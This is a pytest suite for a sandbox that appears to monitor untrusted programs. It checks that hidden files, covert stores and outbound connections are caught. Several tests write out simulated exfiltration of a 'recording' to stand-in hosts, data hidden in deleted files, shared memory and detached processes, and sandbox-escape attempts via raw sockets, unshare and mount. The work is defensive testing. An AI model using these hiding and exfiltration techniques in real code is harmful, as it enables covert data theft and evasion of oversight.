"""Nothing escapes a cell unseen: no byte, no file, no process."""

from __future__ import annotations

import os
import signal
import socket
import ssl
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from earwitness.conformance.targets import cell as cell_module
from earwitness.conformance.targets import doorman_call
from earwitness.conformance.targets.cell import Cell, strongest_confinement
from earwitness.conformance.targets.confinement import Confinement
from earwitness.conformance.targets.doorman_call import ERROR_TAIL
from earwitness.conformance.targets.packets import (
    asked_name,
    name_answer,
    parse_packet,
    server_name,
)
from earwitness.conformance.targets.protocol import TargetError

SOUND = b"RIFF what was said in the room"
BODY = f"""
import os, socket, subprocess, sys, time
SOUND = {SOUND!r}
def done():
    print("done", flush=True)
    sys.stdin.read()
"""

pytestmark = pytest.mark.skipif(
    strongest_confinement()[0] is not Confinement.SEALED,
    reason=f"no cell here: {strongest_confinement()[1]}",
)


def start(body, **more):
    """A program in a cell, once it has said that it is done."""
    cell = Cell.start(
        [sys.executable, "-c", BODY + textwrap.dedent(body)], **more
    )
    line = cell.stdout.readline()
    assert line == b"done\n", (line, cell.error_tail())
    return cell


def found_in(cell):
    with cell.frozen():
        return {file.name: file.content for file in cell.found_files()}


HIDING_PLACES = {
    "in /var/tmp": "open('/var/tmp/recording', 'wb').write(SOUND); done()",
    "in its home": "open(os.path.expanduser('~/recording'), 'wb').write(SOUND); done()",
    "over a file of the system": "open('/etc/hostname', 'ab').write(SOUND); done()",
    "behind a link": """
        os.makedirs('/var/tmp/elsewhere'); os.symlink('/var/tmp/elsewhere', '/tmp/data')
        open('/tmp/data/recording', 'wb').write(SOUND); done()""",
    "in a link's text": "os.symlink('/' + SOUND.decode(), '/tmp/link'); done()",
    "in a name": "open('/tmp/' + SOUND.decode(), 'w'); done()",
    "in a folder's name": "os.mkdir('/tmp/' + SOUND.decode()); done()",
    "in an attribute": """
        open('/tmp/innocent', 'w'); os.setxattr('/tmp/innocent', 'user.note', SOUND); done()""",
    "in a file nobody may read": """
        open('/tmp/secret', 'wb').write(SOUND); os.chmod('/tmp/secret', 0); done()""",
    "in a deleted file": """
        kept = open('/tmp/gone', 'wb+', buffering=0); kept.write(SOUND); os.unlink('/tmp/gone'); done()""",
    "in a deleted file that is only mapped": """
        import mmap
        kept = open('/tmp/gone', 'wb+', buffering=0); kept.write(SOUND); view = mmap.mmap(kept.fileno(), 0)
        kept.close(); os.unlink('/tmp/gone'); done()""",
    "in memory with a descriptor": "kept = os.memfd_create('x'); os.write(kept, SOUND); done()",
    "in shared memory": "open('/dev/shm/recording', 'wb').write(SOUND); done()",
    "among the devices": "open('/dev/recording', 'wb').write(SOUND); done()",
    "in /run": "open('/run/recording', 'wb').write(SOUND); done()",
    "in a pipe": "out, end = os.pipe(); os.write(end, SOUND); done()",
    "in a named pipe": """
        os.mkfifo('/tmp/pipe'); kept = os.open('/tmp/pipe', os.O_RDWR); os.write(kept, SOUND); done()""",
    "in a unix socket": "one, two = socket.socketpair(); one.send(SOUND); done()",
    "in System V memory": """
        import ctypes
        libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
        number = libc.shmget(77, 4096, 0o1666)
        ctypes.memmove(libc.shmat(number, None, 0), SOUND, len(SOUND)); done()""",
    "by a child in a session of its own": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                open('/var/tmp/recording', 'wb').write(SOUND); print('done', flush=True); time.sleep(600)
            os._exit(0)
        sys.stdin.read()""",
}


@pytest.mark.parametrize("place", HIDING_PLACES)
def test_what_is_kept_anywhere_is_found(place):
    with start(HIDING_PLACES[place]) as cell:
        found = found_in(cell)
    assert any(
        SOUND in (content or b"") or SOUND.decode() in name
        for name, content in found.items()
    ), found


def test_a_program_that_keeps_nothing_has_nothing_found():
    with start("done()") as cell:
        assert found_in(cell) == {}


def test_what_was_there_before_is_not_found_and_what_is_ours_stays_untouched(
    tmp_path,
):
    ours = tmp_path / "ours"
    ours.write_text("ours")
    with start(
        f"open({str(ours)!r}, 'w').write('theirs'); os.unlink({str(ours)!r}); done()"
    ) as cell:
        found_in(cell)
    assert ours.read_text() == "ours"


def test_a_file_is_found_after_its_program_has_ended():
    body = (
        BODY
        + "open('/var/tmp/recording', 'wb').write(SOUND); print('done', flush=True)"
    )
    with Cell.start([sys.executable, "-c", body]) as cell:
        assert cell.exit_code(10) == 0
        assert [f.content for f in cell.found_files()] == [SOUND]


def test_the_disk_is_full_before_our_memory_is(monkeypatch):
    monkeypatch.setattr(doorman_call, "MEMORY_FOR_FILES", 8 << 20)
    body = """
        try:
            open('/tmp/flood', 'wb').write(bytes(16 << 20))
        except OSError as error:
            assert error.errno == 28, error
            done()"""
    with start(body) as cell:
        assert all(
            len(content or b"") <= 8 << 20
            for content in found_in(cell).values()
        )


def test_all_processes_stand_still_while_we_search():
    body = """
        for _ in range(5):
            if os.fork() == 0:
                count = 0
                while True:
                    count += 1
                    os.pwrite(os.open('/tmp/counter', os.O_CREAT | os.O_WRONLY), str(count).encode(), 0)
        done()"""
    with start(body) as cell:
        with cell.frozen():
            first, second = (
                {f.name: f.content for f in cell.found_files()}
                for _ in range(2)
            )
        assert len(cell.processes()) == 6
    assert first == second


# What leaves.


def test_a_second_connection_is_seen_with_its_name_and_size():
    body = """
        stranger = socket.create_connection(('collect.example.net', 443), 5); stranger.sendall(SOUND * 100)
        direct = socket.create_connection(('203.0.113.7', 8443), 5); direct.sendall(SOUND)
        six = socket.create_connection(('2001:db8::7', 443), 5); six.sendall(SOUND)
        done()"""
    with start(body) as cell:
        flows = [f for f in cell.flows() if f.protocol == "tcp"]
        looked_up = [f.name for f in cell.flows() if f.protocol == "dns"]
        assert cell.incomplete == ""
    assert [(f.name, f.peer.rpartition(":")[2], f.bytes) for f in flows] == [
        ("collect.example.net", "443", 100 * len(SOUND)),
        ("", "8443", len(SOUND)),
        ("", "443", len(SOUND)),
    ]
    assert (
        flows[1].peer == "203.0.113.7:8443"
        and flows[2].peer == "[2001:db8::7]:443"
    )
    assert all(
        f.refused and not f.local and f.content.startswith(SOUND)
        for f in flows
    )
    assert "collect.example.net" in looked_up


def test_a_caller_of_the_outside_is_refused_in_the_end():
    body = """
        caller = socket.create_connection(('203.0.113.7', 443), 5); caller.sendall(SOUND)
        try:
            caller.recv(1)
        except ConnectionResetError:
            done()"""
    start(body).close()


def test_the_name_in_a_tls_greeting_is_read():
    body = """
        import ssl
        caller = socket.create_connection(('203.0.113.7', 443), 5)
        try:
            ssl._create_unverified_context().wrap_socket(caller, server_hostname='hidden.example.org')
        except OSError:
            done()"""
    with start(body) as cell:
        assert [(f.peer, f.name) for f in cell.flows()] == [
            ("203.0.113.7:443", "hidden.example.org")
        ]


def test_datagrams_multicast_and_names_are_seen():
    body = """
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.sendto(SOUND, ('8.8.8.8', 53)); one.sendto(SOUND, ('239.255.255.250', 1900))
        one.sendto(SOUND, ('224.0.0.251', 5353))
        six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); six.sendto(SOUND, ('2001:db8::7', 9))
        done()"""
    with start(body) as cell:
        flows = {f.peer: f for f in cell.flows()}
    assert set(flows) == {
        "8.8.8.8:53",
        "239.255.255.250:1900",
        "224.0.0.251:5353",
        "[2001:db8::7]:9",
    }
    assert all(
        f.content == SOUND and f.refused and f.protocol == "udp"
        for f in flows.values()
    )


@pytest.mark.parametrize("bind", ["127.0.0.1", "0.0.0.0"])
@pytest.mark.parametrize("to", ["127.0.0.1", "127.9.9.9", "10.99.0.2"])
def test_a_connection_past_the_relay_to_a_server_in_the_cell_is_seen(
    bind, to
):
    body = f"""
        server = socket.create_server(({bind!r}, 8443))
        try:
            caller = socket.create_connection(({to!r}, 8443)); caller.sendall(SOUND)
            server.accept()[0].sendall(b'thanks')
            caller.recv(6)
        except ConnectionRefusedError:
            assert {bind!r} != '0.0.0.0'
        done()"""
    with start(body) as cell:
        flows = cell.flows()
    reached = bind == "0.0.0.0" or bind == to
    counted = (len(SOUND), 6) if reached else (0, 0)
    assert [(f.peer, f.bytes, f.answered) for f in flows] == [
        (f"{to}:8443", *counted)
    ]
    assert (
        flows[0].local
        and not flows[0].refused
        and flows[0].content == (SOUND if reached else b"")
    )


def test_a_direct_tls_connection_is_counted_where_it_cannot_be_read(tmp_path):
    import trustme

    certificate = tmp_path / "server.pem"
    trustme.CA().issue_cert(
        "localhost"
    ).private_key_and_cert_chain_pem.write_to_path(certificate)
    body = f"""
        import ssl, threading
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain({str(certificate)!r})
        server = socket.create_server(('127.0.0.1', 8443))
        def serve():
            connection = context.wrap_socket(server.accept()[0], server_side=True)
            while connection.recv(1 << 16):
                pass
        threading.Thread(target=serve, daemon=True).start()
        own = ssl._create_unverified_context().wrap_socket(socket.create_connection(('127.0.0.1', 8443)))
        own.sendall(SOUND * 1000)
        done()"""
    with start(body) as cell:
        (flow,) = cell.flows()
    assert (
        flow.peer == "127.0.0.1:8443"
        and flow.bytes > 1000 * len(SOUND)
        and SOUND not in flow.content
    )


def test_a_door_is_the_relays_business_and_no_flow():
    body = """
        port = int(sys.stdin.readline())
        caller = socket.create_connection(('127.0.0.1', port)); caller.sendall(SOUND)
        assert caller.recv(100) == b'answer'
        print('done', flush=True)
        server = socket.create_server(('127.0.0.1', 8443))
        print('listening', flush=True)
        server.accept()[0].sendall(b'from inside')
        sys.stdin.read()"""
    cell = Cell.start([sys.executable, "-c", BODY + textwrap.dedent(body)])
    with cell, cell.listen() as door:
        cell.stdin.write(f"{door.getsockname()[1]}\n".encode())
        caller, _ = door.accept()
        with caller:
            assert caller.recv(100) == SOUND
            caller.sendall(b"answer")
        assert cell.stdout.readline() == b"done\n"
        assert cell.stdout.readline() == b"listening\n"
        with cell.connect("127.0.0.1", 8443) as into:
            assert into.recv(100) == b"from inside"
        assert cell.flows() == ()


def test_our_own_loopback_cannot_be_reached():
    with socket.create_server(("127.0.0.1", 0)) as ours:
        port = ours.getsockname()[1]
        body = f"""
            try:
                socket.create_connection(('127.0.0.1', {port}), 2)
            except ConnectionRefusedError:
                done()"""
        start(body).close()


def test_a_unix_socket_of_ours_cannot_be_reached(tmp_path):
    path = str(tmp_path / "ours")
    with socket.socket(socket.AF_UNIX) as ours:
        ours.bind(path)
        ours.listen()
        body = f"""
            try:
                socket.socket(socket.AF_UNIX).connect({path!r})
            except ConnectionRefusedError:
                done()"""
        start(body).close()


@pytest.mark.parametrize(
    "call",
    [
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "socket.socket(40, socket.SOCK_STREAM)",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(socket.SOL_SOCKET, 36, 0x77)",
        "subprocess.run(['unshare', '--user', '--map-root-user', 'true'], check=True)",
        "subprocess.run(['mount', '-t', 'tmpfs', 'x', '/mnt'], check=True)",
    ],
)
def test_ways_out_of_sight_are_refused(call):
    body = f"""
        try:
            {call}
        except (OSError, subprocess.CalledProcessError):
            done()"""
    start(body).close()


def test_nothing_secret_of_ours_is_in_its_environment(monkeypatch):
    monkeypatch.setenv("DEPLOY_TOKEN", "hush")
    body = "assert 'hush' not in str(os.environ) and 'hush' not in open('/proc/1/environ').read(); done()"
    start(body).close()


# Life and death.


def is_alive(process):
    try:
        return (
            Path(f"/proc/{process}/stat").read_text().rpartition(") ")[2][0]
            not in "ZX"
        )
    except OSError:
        return False


def wait_until_gone(marker, seconds=5.0):
    """Until no process has the marker in its command line; True where that happens in time."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        lines = []
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                lines.append(path.read_bytes())
            except OSError:
                continue
        if not any(
            marker.encode() in line and b"pytest" not in line
            for line in lines
        ):
            return True
    return False


ORPHANS = """
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp('sleep', ['sleep', '{marker}'])
        os._exit(0)
done()
"""


@pytest.mark.parametrize(
    "confinement", [Confinement.SEALED, Confinement.OPEN]
)
def test_closing_ends_every_process(confinement):
    marker = f"86{os.getpid()}.{confinement.name.count('E')}"
    with start(
        ORPHANS.replace("{marker}", marker), confinement=confinement
    ) as cell:
        assert not wait_until_gone(marker, 0.2)
        assert cell.level is confinement
    assert wait_until_gone(marker, 0.5)


@pytest.mark.parametrize("confinement", ["SEALED", "OPEN"])
def test_when_the_harness_is_killed_the_target_dies(confinement, tmp_path):
    marker = f"87{os.getpid()}.{len(confinement)}"
    script = tmp_path / "harness.py"
    script.write_text(
        "import sys, time\n"
        "from earwitness.conformance.targets.cell import Cell\n"
        "from earwitness.conformance.targets.confinement import Confinement\n"
        f"body = {BODY + ORPHANS.replace('{marker}', marker)!r}\n"
        f"cell = Cell.start([sys.executable, '-c', body], confinement=Confinement.{confinement})\n"
        "print(cell.stdout.readline(), flush=True)\n"
        "time.sleep(600)\n"
    )
    harness = subprocess.Popen(
        [sys.executable, script], stdout=subprocess.PIPE
    )
    assert b"done" in harness.stdout.readline()
    harness.send_signal(signal.SIGKILL)
    harness.wait()
    harness.stdout.close()
    assert wait_until_gone(marker)


def test_a_target_may_be_started_by_a_thread_that_ends():
    """PR_SET_PDEATHSIG would kill it: that signal is sent when the thread that started it ends."""
    cells = []
    thread = threading.Thread(target=lambda: cells.append(start("done()")))
    thread.start()
    thread.join()
    with cells[0] as cell:
        assert cell.exit_code(0.3) is None


def test_the_last_words_are_kept_and_nothing_blocks():
    body = "sys.stderr.write('x' * (4 << 20) + 'out of memory'); sys.stderr.flush(); done()"
    with start(body) as cell:
        deadline = time.monotonic() + 5
        while (
            not cell.error_tail().endswith("out of memory")
            and time.monotonic() < deadline
        ):
            pass
        assert (
            cell.error_tail().endswith("out of memory")
            and len(cell.error_tail()) <= ERROR_TAIL
        )


def test_a_program_that_does_not_exist_is_named():
    with pytest.raises(TargetError, match="/no/such/device"):
        Cell.start(["/no/such/device"])


def test_shown_folders_keep_their_paths_and_only_some_can_be_written(
    tmp_path,
):
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "clip").write_text("clip")
    os.mkfifo(tmp_path / "microphone")
    body = f"""
        assert open({str(tmp_path / "clip")!r}).read() == 'clip'
        microphone = os.open({str(tmp_path / "microphone")!r}, os.O_RDONLY | os.O_NONBLOCK)
        open({str(out / "played")!r}, 'w').write('sound')
        try:
            open({str(tmp_path / "clip")!r}, 'w')
        except OSError:
            done()"""
    with start(body, folders=[(tmp_path, False), (out, True)]) as cell:
        assert (out / "played").read_text() == "sound"
        assert found_in(cell) == {}


def test_we_see_its_folders_from_outside():
    with start(
        "open(os.environ['TMPDIR'] + '/store', 'w').write('kept'); done()"
    ) as cell:
        assert (
            cell.outside("/earwitness/tmp") / "store"
        ).read_text() == "kept"


def test_on_a_machine_without_the_tools_the_cell_is_open_and_says_why(
    monkeypatch,
):
    monkeypatch.setattr(
        cell_module,
        "strongest_confinement",
        lambda: (Confinement.OPEN, "bwrap not installed"),
    )
    with start("done()") as cell:
        assert (cell.level, cell.why) == (
            Confinement.OPEN,
            "bwrap not installed",
        )
        assert (
            list(cell.found_files()) == []
            and cell.flows() == ()
            and "not confined" in cell.incomplete
        )
        with cell.listen() as door:
            assert (
                cell.connect(*door.getsockname()).getpeername()
                == door.getsockname()
            )


# The parsers a target can reach.


def test_the_name_of_a_server_is_read_from_a_real_greeting():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(
        incoming, outgoing, server_hostname="cloud.example.com"
    )
    with pytest.raises(ssl.SSLWantReadError):
        session.do_handshake()
    hello = outgoing.read()
    assert server_name(hello) == "cloud.example.com"
    assert all(
        server_name(hello[:length]) in ("", "cloud.example.com")
        for length in range(len(hello))
    )


def test_questions_for_names_that_make_no_sense_are_survived():
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05cloud\x03com\x00\x00\x01\x00\x01"
    assert asked_name(question) == ("cloud.com", 1)
    assert name_answer(question, "198.18.0.2").endswith(
        socket.inet_aton("198.18.0.2")
    )
    for length in range(len(question)):
        name_answer(question[:length], "198.18.0.2")
        asked_name(question[:length])


def test_packets_that_make_no_sense_are_left_out():
    assert (
        parse_packet(b"") is None
        and parse_packet(b"\x45" + bytes(19)) is not None
    )
    assert parse_packet(b"\x60" + bytes(20)) is None


def test_folders_thousands_deep_are_told_and_end_nothing():
    body = """
        os.chdir('/tmp')
        for _ in range(1_500):
            os.mkdir('d')
            os.chdir('d')
        done()"""
    with start(body) as cell, cell.frozen():
        found = list(cell.found_files())
        assert any("deeper" in file.reason for file in found)
        assert list(cell.found_files()) == found, "it still answers"


def test_a_cell_that_nothing_keeps_any_more_is_a_fault_of_the_target():
    with start("done()") as cell:
        os.kill(cell._doorman._process.pid, signal.SIGKILL)
        with pytest.raises(TargetError, match="has ended"):
            found_in(cell)
